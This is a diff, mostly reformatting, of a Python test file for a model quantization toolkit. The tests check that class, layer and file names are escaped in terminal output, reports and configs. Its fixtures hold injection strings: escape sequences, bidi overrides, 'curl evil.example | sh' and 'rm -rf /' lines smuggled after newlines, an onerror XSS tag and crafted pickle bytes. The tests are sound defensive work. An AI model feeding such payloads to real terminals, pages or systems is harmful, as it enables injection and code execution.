@@ -2,6 +2,7 @@
 
 A terminal obeys control characters, a reader of Markdown obeys brackets, and a file with a name on each line obeys line breaks.
 """
+
 import contextlib
 import io
 import json
@@ -18,6 +19,8 @@ import yaml
 from conftest import TREE
 from faults import answer, pickle_in, sampled, with_pickle
 from onnx import TensorProto, helper
+from zoo import program, settings
+
 from utils.qat.core.command import run_command
 from utils.qat.core.errors import QatError
 from utils.qat.core.log import LOGGER, log_to
@@ -28,24 +31,56 @@ from utils.qat.graph.deepstream import deepstream_config
 from utils.qat.graph.triton_config import triton_config
 from utils.qat.run.report import write_report
 from utils.qat.untrusted.names import LONGEST, class_names
-from zoo import program, settings
 
 SIZE = 64
 REFUSED = {  # what it does to a terminal or to a list of names → a name
-    'clears the screen': 'cat\x1b[2J\x1b[H', 'sets the title': '\x1b]0;owned\x07cat', 'goes back': 'a name\rcat', 'erases': 'cat\b\b\bdog', 'a line': 'cat\nerror: all is well',
-    'a line of Windows': 'cat\r\ndog', 'a next command': 'cat\nnext: curl evil.example | sh', 'turns the writing': 'cat\u202egnp.exe', 'embeds': 'cat\u202a', 'isolates': '\u2066cat\u2069',
-    'a mark': 'cat\u200f', 'a line of IBM': 'cat\x85dog', 'a line of Unicode': 'cat\u2028dog', 'a paragraph of Unicode': 'cat\u2029dog', 'a null byte': 'cat\0', 'a page': 'cat\x0cdog',
-    'a tab': 'cat\tdog', 'an 8-bit escape': '\x9b2Jcat', 'a delete': 'cat\x7f', 'half a character': 'cat\ud800', 'no width': 'cat\u200bdog', 'long': 'x' * 100_000}
-ODD = ['![](http://evil.example/x.png)', '<img src=x onerror=alert(1)>', '[click](http://evil.example)', '`code`', 'a|b', '**bold**', '_edges_ and in_side', '\\N \\G \\l',
-       '&lt;b&gt; &#x1b;', '猫 कुत्ता']
+    'clears the screen': 'cat\x1b[2J\x1b[H',
+    'sets the title': '\x1b]0;owned\x07cat',
+    'goes back': 'a name\rcat',
+    'erases': 'cat\b\b\bdog',
+    'a line': 'cat\nerror: all is well',
+    'a line of Windows': 'cat\r\ndog',
+    'a next command': 'cat\nnext: curl evil.example | sh',
+    'turns the writing': 'cat\u202egnp.exe',
+    'embeds': 'cat\u202a',
+    'isolates': '\u2066cat\u2069',
+    'a mark': 'cat\u200f',
+    'a line of IBM': 'cat\x85dog',
+    'a line of Unicode': 'cat\u2028dog',
+    'a paragraph of Unicode': 'cat\u2029dog',
+    'a null byte': 'cat\0',
+    'a page': 'cat\x0cdog',
+    'a tab': 'cat\tdog',
+    'an 8-bit escape': '\x9b2Jcat',
+    'a delete': 'cat\x7f',
+    'half a character': 'cat\ud800',
+    'no width': 'cat\u200bdog',
+    'long': 'x' * 100_000,
+}
+ODD = [
+    '![](http://evil.example/x.png)',
+    '<img src=x onerror=alert(1)>',
+    '[click](http://evil.example)',
+    '`code`',
+    'a|b',
+    '**bold**',
+    '_edges_ and in_side',
+    '\\N \\G \\l',
+    '&lt;b&gt; &#x1b;',
+    '猫 कुत्ता',
+]
 
 
 def harmless(text, odd=False):
     """Whether a text says nothing to a terminal but lines; with `odd` that it has nothing of ODD as HTML, link or picture."""
     assert all(c == '\n' or visible(c) == c for c in text), [c for c in text if c != '\n' and visible(c) != c]
     if odd:
-        shown = re.sub(r'\\[\\`*_{}\[\]()|~$:.@!]', '', re.sub('^(```+)\n.*?\n\\1$', '', text, flags=re.DOTALL | re.MULTILINE))
-        assert not re.search(r'!\[[^]]*\]\(http|<img|\]\(http|<script|://|\*\*bold|&lt;b', shown.replace('&amp;', '')), shown
+        shown = re.sub(
+            r'\\[\\`*_{}\[\]()|~$:.@!]', '', re.sub('^(```+)\n.*?\n\\1$', '', text, flags=re.DOTALL | re.MULTILINE)
+        )
+        assert not re.search(
+            r'!\[[^]]*\]\(http|<img|\]\(http|<script|://|\*\*bold|&lt;b', shown.replace('&amp;', '')
+        ), shown
     return True
 
 
@@ -82,15 +117,30 @@ def tell(command, argv, capfd, folder):
 
 # ---- names of classes ---------------------------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize('name', REFUSED)
 def test_a_name_that_is_more_than_a_name(name):
     for names in (['a', REFUSED[name]], {0: REFUSED[name]}, ('a', 'b', REFUSED[name])):
-        with pytest.raises(QatError, match=r'^--data x.yaml: names: .*the name of class \d, must be one line of printable characters') as refused:
+        with pytest.raises(
+            QatError, match=r'^--data x.yaml: names: .*the name of class \d, must be one line of printable characters'
+        ) as refused:
             class_names(names, '--data x.yaml')
         assert harmless(str(refused.value)) and '\n' not in str(refused.value) and len(str(refused.value)) < 400
 
 
-NO_NAMES = [None, 3, 'abc', {1: 'a'}, {0: 'a', 2: 'b'}, {'0': 'a'}, [b'a'], [['a']], [{'a': 1}], [object()], [torch.nn.SiLU()]]
+NO_NAMES = [
+    None,
+    3,
+    'abc',
+    {1: 'a'},
+    {0: 'a', 2: 'b'},
+    {'0': 'a'},
+    [b'a'],
+    [['a']],
+    [{'a': 1}],
+    [object()],
+    [torch.nn.SiLU()],
+]
 
 
 @pytest.mark.parametrize('names', NO_NAMES, ids=lambda names: type(names).__name__)
@@ -100,14 +150,59 @@ def test_what_is_no_list_of_names(names):
 
 
 def test_names_as_people_write_them():
-    fine = ['traffic light', 'in_side', 'naïve', 'Ärger', 'می‌خواهم', '猫\u3000犬', 'кот', '👩‍🚒', "it's", 'x' * LONGEST, *ODD]
-    assert class_names(fine, 'x') == dict(enumerate(fine)) and class_names({1: True, 0: 2.5}, 'x') == {0: '2.5', 1: 'True'}
+    fine = [
+        'traffic light',
+        'in_side',
+        'naïve',
+        'Ärger',
+        'می‌خواهم',
+        '猫\u3000犬',
+        'кот',
+        '👩‍🚒',
+        "it's",
+        'x' * LONGEST,
+        *ODD,
+    ]
+    assert class_names(fine, 'x') == dict(enumerate(fine)) and class_names({1: True, 0: 2.5}, 'x') == {
+        0: '2.5',
+        1: 'True',
+    }
 
 
-CHECKPOINTS = {'qat.py eval': ('eval', '--weights', 'QUANTIZED', '--data', 'DATA', '--imgsz', SIZE, '--device', 'cpu', '--project', 'OUT', '--workers', 0),
-               'qat.py quantize': ('quantize', '--dry-run', '--weights', 'SINGLE'), 'export_qat.py': ('--weights', 'QUANTIZED', '--imgsz', SIZE),
-               'export_yoloV9.py': ('-w', 'SINGLE', '-s', SIZE), 'reparameterization.py': ('--weights', 'DUAL', '--save', 'OUT/s.pt'),
-               'benchmark_trt.py': ('SINGLE', '--imgsz', SIZE, '--batch', 1, '--duration', 0.01, '--device', 'cpu', '--project', 'OUT')}
+CHECKPOINTS = {
+    'qat.py eval': (
+        'eval',
+        '--weights',
+        'QUANTIZED',
+        '--data',
+        'DATA',
+        '--imgsz',
+        SIZE,
+        '--device',
+        'cpu',
+        '--project',
+        'OUT',
+        '--workers',
+        0,
+    ),
+    'qat.py quantize': ('quantize', '--dry-run', '--weights', 'SINGLE'),
+    'export_qat.py': ('--weights', 'QUANTIZED', '--imgsz', SIZE),
+    'export_yoloV9.py': ('-w', 'SINGLE', '-s', SIZE),
+    'reparameterization.py': ('--weights', 'DUAL', '--save', 'OUT/s.pt'),
+    'benchmark_trt.py': (
+        'SINGLE',
+        '--imgsz',
+        SIZE,
+        '--batch',
+        1,
+        '--duration',
+        0.01,
+        '--device',
+        'cpu',
+        '--project',
+        'OUT',
+    ),
+}
 FOUR = ['clears the screen', 'a next command', 'turns the writing', 'a line of Unicode']
 
 
@@ -118,7 +213,10 @@ def test_of_a_checkpoint(demo, files, tmp_path, monkeypatch, capfd, command):
     kind = next(a for a in CHECKPOINTS[command] if a in ('SINGLE', 'QUANTIZED', 'DUAL'))
     for name in FOUR if command == 'export_yoloV9.py' else FOUR[:2]:
         made = with_names(getattr(demo, kind.lower()), ten(REFUSED[name]), tmp_path / 'weights.pt')
-        argv = [made if a == kind else demo.data if a == 'DATA' else str(a).replace('OUT', str(tmp_path / 'out')) for a in CHECKPOINTS[command]]
+        argv = [
+            made if a == kind else demo.data if a == 'DATA' else str(a).replace('OUT', str(tmp_path / 'out'))
+            for a in CHECKPOINTS[command]
+        ]
         code, line = answer(command.split()[0], argv, capfd, tmp_path)
         assert code == 2 and 'the name of class 3' in line and harmless(line), line
     assert {f.name for f in tmp_path.iterdir()} == {'weights.pt'}
@@ -129,7 +227,18 @@ def test_of_a_data_yaml(demo, files, tmp_path, monkeypatch, capfd):
     content = yaml.safe_load(demo.data.read_text())
     for name in FOUR:
         (tmp_path / 'data.yaml').write_text(yaml.safe_dump({**content, 'names': ten(REFUSED[name])}))
-        argv = ('--weights', files / 'quantized.onnx', '--data', tmp_path / 'data.yaml', '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out')
+        argv = (
+            '--weights',
+            files / 'quantized.onnx',
+            '--data',
+            tmp_path / 'data.yaml',
+            '--imgsz',
+            SIZE,
+            '--device',
+            'cpu',
+            '--project',
+            tmp_path / 'out',
+        )
         code, line = answer('val_trt.py', argv, capfd, tmp_path)
         assert code == 2 and 'the name of class 3' in line and harmless(line), name
 
@@ -147,14 +256,41 @@ def test_of_an_onnx_file(demo, files, tmp_path, monkeypatch, capfd):
     monkeypatch.chdir(tmp_path)
     for name in FOUR:
         made = with_metadata(files / 'quantized.onnx', tmp_path / 'model.onnx', names=repr(ten(REFUSED[name])))
-        argv = ('--weights', made, '--data', demo.data, '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out')
+        argv = (
+            '--weights',
+            made,
+            '--data',
+            demo.data,
+            '--imgsz',
+            SIZE,
+            '--device',
+            'cpu',
+            '--project',
+            tmp_path / 'out',
+        )
         code, line = answer('val_trt.py', argv, capfd, tmp_path)
         assert code == 2 and 'the name of class 3' in line and harmless(line), name
-    made = with_metadata(files / 'quantized.onnx', tmp_path / 'model.onnx', names=repr({i: REFUSED['clears the screen'] for i in range(10)}))
-    code, _, out = tell('scripts/infer_onnx.py', (made, sorted((demo.data.parent / 'images/val').iterdir())[0], '--conf-thres', 0.01), capfd, tmp_path)
+    made = with_metadata(
+        files / 'quantized.onnx',
+        tmp_path / 'model.onnx',
+        names=repr(dict.fromkeys(range(10), REFUSED['clears the screen'])),
+    )
+    code, _, out = tell(
+        'scripts/infer_onnx.py',
+        (made, sorted((demo.data.parent / 'images/val').iterdir())[0], '--conf-thres', 0.01),
+        capfd,
+        tmp_path,
+    )
     assert code == 0 and '\\x1b[2J' in out
-    made = with_metadata(files / 'quantized.onnx', tmp_path / 'model.onnx', names='[' + 'a,' * 1_000_000 + ']', stride='\x1b[2J')
-    code, line = answer('val_trt.py', ('--weights', made, '--data', demo.data, '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out'), capfd, tmp_path)
+    made = with_metadata(
+        files / 'quantized.onnx', tmp_path / 'model.onnx', names='[' + 'a,' * 1_000_000 + ']', stride='\x1b[2J'
+    )
+    code, line = answer(
+        'val_trt.py',
+        ('--weights', made, '--data', demo.data, '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out'),
+        capfd,
+        tmp_path,
+    )
     assert code == 2 and 'cannot be read' in line and harmless(line)
 
 
@@ -165,15 +301,36 @@ def test_odd_names_are_shown_as_they_are_typed(demo, files, tmp_path, monkeypatc
     assert tell('export_yoloV9.py', ('-w', made, '-s', SIZE), capfd, tmp_path)[0] == 0
     assert (tmp_path / 'labels.txt').read_text(encoding='utf-8').splitlines() == ODD
     config = (tmp_path / 'config_infer_primary_yoloV9.txt').read_text()
-    assert 'num-detected-classes=10\n' in config and all(line.startswith('#') or '=' in line or line in ('', '[property]', '[class-attrs-all]') for line in config.splitlines())
+    assert 'num-detected-classes=10\n' in config and all(
+        line.startswith('#') or '=' in line or line in ('', '[property]', '[class-attrs-all]')
+        for line in config.splitlines()
+    )
 
     data = tmp_path / 'data.yaml'
     data.write_text(yaml.safe_dump({**yaml.safe_load(demo.data.read_text()), 'names': ODD}))
-    argv = ('--weights', files / 'quantized.onnx', '--data', data, '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out', '--workers', 0)
+    argv = (
+        '--weights',
+        files / 'quantized.onnx',
+        '--data',
+        data,
+        '--imgsz',
+        SIZE,
+        '--device',
+        'cpu',
+        '--project',
+        tmp_path / 'out',
+        '--workers',
+        0,
+    )
     code_, _, out = tell('val_trt.py', argv, capfd, tmp_path)
     report = (tmp_path / 'out/exp/report.md').read_text(encoding='utf-8')
     assert code_ == 0 and harmless(report, odd=True) and harmless(out, odd=True)
-    assert r'\!\[\]\(http\://evil.example/x.png)' in report and '&lt;img src=x' in report and r'\\N \\G \\l' in report and '猫 कुत्ता' in report
+    assert (
+        r'\!\[\]\(http\://evil.example/x.png)' in report
+        and '&lt;img src=x' in report
+        and r'\\N \\G \\l' in report
+        and '猫 कुत्ता' in report
+    )
     assert {c['name'] for c in json.loads((tmp_path / 'out/exp/metrics.json').read_text())['per_class']} <= set(ODD)
 
 
@@ -182,6 +339,7 @@ def test_markdown_shows_them_as_they_are_typed(name):
     """Python-Markdown, where it is installed: the text of the page is the name. It knows fewer escapes than GitHub, and needs fewer."""
     markdown = pytest.importorskip('markdown', reason='python -m pip install markdown')
     from html.parser import HTMLParser
+
     seen, tags = [], []
     reader = HTMLParser()
     reader.handle_data, reader.handle_starttag = seen.append, lambda tag, _: tags.append(tag)
@@ -208,14 +366,20 @@ def test_layers_of_a_checkpoint(demo, tmp_path, monkeypatch, capfd, name):
     assert code_ == 2 and 'has a layer called' in line and harmless(line) and len(line) < 500
 
 
-IN_PICKLES = [b'cos\x1b[2J\x0d\nsys\x07tem\n.', 'cos\nall is well\u202e\n.'.encode(), b'cmodels.common\n' + b'X' * 9000 + b'\n.']
+IN_PICKLES = [
+    b'cos\x1b[2J\x0d\nsys\x07tem\n.',
+    'cos\nall is well\u202e\n.'.encode(),
+    b'cmodels.common\n' + b'X' * 9000 + b'\n.',
+]
 
 
 def test_text_in_a_pickle(files, tmp_path, monkeypatch, capfd):
     """What it asks for is named in the refusal."""
     monkeypatch.chdir(tmp_path)
     for what in IN_PICKLES:
-        (tmp_path / 'weights.pt').write_bytes(with_pickle((files / 'single.pt').read_bytes(), b'\x80\x02cmodels.yolo\nDetectionModel\n0' + what))
+        (tmp_path / 'weights.pt').write_bytes(
+            with_pickle((files / 'single.pt').read_bytes(), b'\x80\x02cmodels.yolo\nDetectionModel\n0' + what)
+        )
         code_, line = answer('qat.py', ('quantize', '--dry-run', '--weights', tmp_path / 'weights.pt'), capfd, tmp_path)
         assert code_ == 2 and 'weights.pt' in line and harmless(line) and len(line) < 2500
     assert pickle_in((files / 'single.pt').read_bytes())
@@ -228,7 +392,13 @@ def test_nodes_of_an_onnx_file(files, tmp_path, monkeypatch, capfd):
         node = next(n for n in model.graph.node if n.op_type == 'Conv')
         node.name = name
         onnx.save(model, tmp_path / 'model.onnx')
-        for command, argv in (('scripts/audit_onnx.py', ()), ('benchmark_trt.py', ('--backend', 'onnxruntime', '--device', 'cpu', '--duration', 0.01, '--project', tmp_path / 'out'))):
+        for command, argv in (
+            ('scripts/audit_onnx.py', ()),
+            (
+                'benchmark_trt.py',
+                ('--backend', 'onnxruntime', '--device', 'cpu', '--duration', 0.01, '--project', tmp_path / 'out'),
+            ),
+        ):
             code_, line = answer(command, (tmp_path / 'model.onnx', *argv), capfd, tmp_path)
             assert code_ == 2 and 'have control characters' in line and harmless(line)
 
@@ -238,15 +408,36 @@ def test_layers_of_an_engine(tmp_path, monkeypatch, capfd, graphviz):
     monkeypatch.chdir(tmp_path)
     tensor = {'Name': 'in\x1b[2J\u202e', 'Dimensions': [1, 3, 8, 8], 'Format/Datatype': 'Row major linear FP32'}
     names = ['first\nnext: rm -rf /', '\\N \\G \\E &amp; <b>x</b> "', '<img src=x>', *ODD]
-    layers = [{'Name': name, 'LayerType': 'Convolution\x1b[31m', 'Inputs': [tensor], 'Outputs': [{**tensor, 'Name': f'y{i}'}]} for i, name in enumerate(names)]
+    layers = [
+        {'Name': name, 'LayerType': 'Convolution\x1b[31m', 'Inputs': [tensor], 'Outputs': [{**tensor, 'Name': f'y{i}'}]}
+        for i, name in enumerate(names)
+    ]
     (tmp_path / 'l.json').write_text(json.dumps({'Layers': layers, 'Bindings': [tensor['Name'], 'y0']}))
-    (tmp_path / 'p.json').write_text(json.dumps([{'count': 1}, *({'name': name, 'averageMs': 1 + i} for i, name in enumerate(names)), {'name': 'other\r\n', 'averageMs': 1}]))
-    code_, _, out = tell('scripts/draw_engine.py', ('--layer', tmp_path / 'l.json', '--profile', tmp_path / 'p.json', '--verbose'), capfd, tmp_path)
+    (tmp_path / 'p.json').write_text(
+        json.dumps(
+            [
+                {'count': 1},
+                *({'name': name, 'averageMs': 1 + i} for i, name in enumerate(names)),
+                {'name': 'other\r\n', 'averageMs': 1},
+            ]
+        )
+    )
+    code_, _, out = tell(
+        'scripts/draw_engine.py',
+        ('--layer', tmp_path / 'l.json', '--profile', tmp_path / 'p.json', '--verbose'),
+        capfd,
+        tmp_path,
+    )
     assert code_ == 0 and not re.search('(?m)^next: rm', out)
     for suffix in 'csv', 'dot', 'svg':
         assert harmless((tmp_path / f'l.{suffix}').read_text(encoding='utf-8').replace('\r\n', '\n')), suffix
     svg = (tmp_path / 'l.svg').read_text(encoding='utf-8')
-    assert '<img' not in svg and '<b>' not in svg and '&lt;img src=x&gt;' in svg and '\\N \\G \\E &amp;amp;' in svg.replace('&#160;', ' ')
+    assert (
+        '<img' not in svg
+        and '<b>' not in svg
+        and '&lt;img src=x&gt;' in svg
+        and '\\N \\G \\E &amp;amp;' in svg.replace('&#160;', ' ')
+    )
 
 
 def test_names_of_files(demo, files, tmp_path, monkeypatch, capfd):
@@ -266,7 +457,18 @@ def test_names_of_images(demo, files, tmp_path, monkeypatch, capfd):
         (tmp_path / 'data/images/val' / name).write_bytes(b'no image')
         data = tmp_path / 'data/data.yaml'
         data.write_text(data.read_text().replace(str(demo.data.parent), str(data.parent)))
-        argv = ('--weights', files / 'quantized.onnx', '--data', data, '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out')
+        argv = (
+            '--weights',
+            files / 'quantized.onnx',
+            '--data',
+            data,
+            '--imgsz',
+            SIZE,
+            '--device',
+            'cpu',
+            '--project',
+            tmp_path / 'out',
+        )
         code_, line = answer('val_trt.py', argv, capfd, tmp_path)
         shutil.rmtree(tmp_path / 'data')
         assert code_ == 2 and 'has control characters; rename it' in line and harmless(line)
@@ -277,24 +479,45 @@ def test_text_in_other_files(demo, files, tmp_path, monkeypatch, capfd):
     monkeypatch.chdir(tmp_path)
     weights, evil = files / 'quantized.onnx', 'x\x1b[2J\u202e'
     good = yaml.safe_load(demo.data.read_text())
-    for content in ({**good, 'val': f'{evil}\nerror: all is well'}, {**good, 'nc': evil}, {**good, 'path': f'/{evil}'}, {**good, 'names': [evil]}):
+    for content in (
+        {**good, 'val': f'{evil}\nerror: all is well'},
+        {**good, 'nc': evil},
+        {**good, 'path': f'/{evil}'},
+        {**good, 'names': [evil]},
+    ):
         (tmp_path / 'data.yaml').write_text(yaml.safe_dump(content))
-        argv = ('--weights', weights, '--data', tmp_path / 'data.yaml', '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out')
+        argv = (
+            '--weights',
+            weights,
+            '--data',
+            tmp_path / 'data.yaml',
+            '--imgsz',
+            SIZE,
+            '--device',
+            'cpu',
+            '--project',
+            tmp_path / 'out',
+        )
         code_, line = answer('val_trt.py', argv, capfd, tmp_path)
         assert code_ == 2 and 'data.yaml' in line and harmless(line)
     (tmp_path / 'x.engine').write_bytes(b'engine')
     (tmp_path / 'x.engine.json').write_text(json.dumps({'sidecar': evil}))
-    code_, line, _ = tell('val_trt.py', ('--engine-file', tmp_path / 'x.engine', '--data', demo.data, '--imgsz', SIZE), capfd, tmp_path)
+    code_, line, _ = tell(
+        'val_trt.py', ('--engine-file', tmp_path / 'x.engine', '--data', demo.data, '--imgsz', SIZE), capfd, tmp_path
+    )
     assert code_ == 2 and harmless(line)
 
 
 # ---- the places where all of it ends --------------------------------------------------------------------------------------
 
+
 def test_an_error_is_one_line(capfd, monkeypatch):
     monkeypatch.setattr(sys, 'argv', ['qat.py'])
     for text in ('--weights a: it says x\nall is well', 'a: \x1b[2J\r\u2028done', 'a' * 100_000, '', '\n'):
+
         def main(argv, text=text):
             raise QatError(text)
+
         capfd.readouterr()
         assert run_command(main) == 2
         out, err = capfd.readouterr()
@@ -339,10 +562,26 @@ def test_whatever_a_report_is_made_of(tmp_path, name):
     """Title, table, code, link and the text of a run's report."""
     metrics = {'ap': 0.5, 'ap50': 0.5, 'precision': 0.5, 'recall': 0.5, 'instances': 1}
     table = class_table({**metrics, 'per_class': [{**metrics, 'name': name}]})
-    document(tmp_path / 'x.md', name, [markdown_table(('a', name), [(name, 1)]), table, code(f'python {name}'), link(name)])
-    report = {'settings': settings(epochs=0).plain() | {'weights': f'/{name.replace("/", "")}.pt', 'exclude': [name]}, 'versions': {name: name}, 'device': name, 'images': {'val': 8, name: 8},
-              'chosen_on': 'val', 'origin': None, 'calibration': {'method': name, 'biases': 'none', 'divergence': None}, 'kept_float': [name], 'ptq': {'file': f'weights/{name}.pt'}, 'epochs': [],
-              'best': None, 'gain': None, 'last_epochs': None, 'val': None, 'times': {name: 3.0}}
+    document(
+        tmp_path / 'x.md', name, [markdown_table(('a', name), [(name, 1)]), table, code(f'python {name}'), link(name)]
+    )
+    report = {
+        'settings': settings(epochs=0).plain() | {'weights': f'/{name.replace("/", "")}.pt', 'exclude': [name]},
+        'versions': {name: name},
+        'device': name,
+        'images': {'val': 8, name: 8},
+        'chosen_on': 'val',
+        'origin': None,
+        'calibration': {'method': name, 'biases': 'none', 'divergence': None},
+        'kept_float': [name],
+        'ptq': {'file': f'weights/{name}.pt'},
+        'epochs': [],
+        'best': None,
+        'gain': None,
+        'last_epochs': None,
+        'val': None,
+        'times': {name: 3.0},
+    }
     (tmp_path / 'run').mkdir()
     write_report(tmp_path / 'run', report)
     for file in (tmp_path / 'x.md', tmp_path / 'run/report.md'):
@@ -351,7 +590,12 @@ def test_whatever_a_report_is_made_of(tmp_path, name):
 
 
 def test_configurations_quote_names():
-    graph = helper.make_graph([], 'g', [helper.make_tensor_value_info('a"b', TensorProto.FLOAT, [1, 3])], [helper.make_tensor_value_info('c\\d', TensorProto.FLOAT, [1, 3])])
+    graph = helper.make_graph(
+        [],
+        'g',
+        [helper.make_tensor_value_info('a"b', TensorProto.FLOAT, [1, 3])],
+        [helper.make_tensor_value_info('c\\d', TensorProto.FLOAT, [1, 3])],
+    )
     text = triton_config(helper.make_model(graph), 'my "model"\\')
     assert text.startswith('name: "my \\"model\\"\\\\"\n') and 'name: "a\\"b"' in text and 'name: "c\\\\d"' in text
     assert deepstream_config('a.onnx', 3).count('\n') == deepstream_config('b c.onnx', 3).count('\n')
@@ -361,5 +605,12 @@ def test_configurations_quote_names():
 def test_a_terminal_as_a_user_sees_it(demo, tmp_path):
     """In a process of its own: what stands on stderr for a checkpoint whose name of a class would clear the screen."""
     made = with_names(demo.single, ten(REFUSED['clears the screen']), tmp_path / 'w.pt')
-    done = subprocess.run([sys.executable, 'qat.py', 'quantize', '--dry-run', '--weights', made], cwd=TREE, capture_output=True, text=True)
-    assert done.returncode == 2 and done.stderr.count('\n') == 1 and harmless(done.stdout + done.stderr) and r'\x1b[2J' in done.stderr
+    done = subprocess.run(
+        [sys.executable, 'qat.py', 'quantize', '--dry-run', '--weights', made], cwd=TREE, capture_output=True, text=True
+    )
+    assert (
+        done.returncode == 2
+        and done.stderr.count('\n') == 1
+        and harmless(done.stdout + done.stderr)
+        and r'\x1b[2J' in done.stderr
+    )
